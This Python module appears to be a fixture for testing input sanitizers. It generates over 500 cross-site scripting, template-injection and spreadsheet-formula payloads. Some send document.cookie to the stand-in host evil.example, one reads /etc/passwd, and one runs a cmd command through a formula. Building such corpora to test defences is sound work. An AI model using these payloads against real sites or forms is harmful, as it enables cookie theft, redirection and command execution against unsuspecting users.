"""Strings that try to become a script, a handler, a request, a rearranged page or a formula."""

from __future__ import annotations

_CALLS = (
    "alert(1)",
    "fetch('//evil.example/'+document.cookie)",
    "location='https://evil.example'",
    "eval(name)",
    "top.location.replace('//evil.example')",
    "new Image().src='//evil.example'",
    "import('//evil.example/x.js')",
    "document.write(1)",
    "window.open('https://evil.example')",
    "setTimeout('alert(1)')",
    "navigator.sendBeacon('//evil.example','x')",
    "document.body.innerHTML=''",
    "localStorage.clear()",
)

_TEMPLATES = (
    "<script>{}</script>",
    "<SCRIPT SRC=//evil.example>{}</SCRIPT>",
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "</svg><script>{}</script>",
    "</script><script>{}</script>",
    "</textarea></noscript></template><script>{}</script>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror={}>",
    "<img src=x onerror={}>",
    "<img/src='https://evil.example/{}'>",
    '"><svg onload="{}">',
    "' autofocus onfocus='{}",
    '" onmouseover="{}',
    "` onclick=`{}",
    '<a href="javascript:{}">x</a>',
    '<a href="JaVa\tScRiPt:{}">x</a>',
    "<a href='data:text/html,<script>{}</script>'>x</a>",
    "<iframe src=//evil.example srcdoc='<script>{}</script>'>",
    "<object data='data:text/html,{}'>",
    "<embed src='https://evil.example/{}'>",
    "<style>@import 'https://evil.example/{}'</style>",
    "<style>*{{background:url(//evil.example/{})}}</style>",
    "<link rel=stylesheet href=https://evil.example/{}>",
    "<base href=https://evil.example/><form action={}>",
    "<form><button formaction='javascript:{}'>x</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/{}'>",
    "<video><source onerror={}></video>",
    "<details open ontoggle={}>",
    "{{{{ 7 * 7 }}}}{{% include '/etc/passwd' %}}{}",
    "&lt;script&gt;{}&lt;/script&gt;&#60;script&#62;",
    "<!--<script>{}</script>",
    "-->]]><script>{}</script>\u202e\x00\x1b[2J",
    "\u2028<script>{}</script>\u2029",
    "%3Cscript%3E{}%3C/script%3E",
    '=HYPERLINK("https://evil.example","{}")',
    "+cmd|' /C {}'!A0",
    "@SUM(1+1)*{}",
)

ATTACKS = tuple(template.format(call) for template in _TEMPLATES for call in _CALLS)
"""Over 500."""
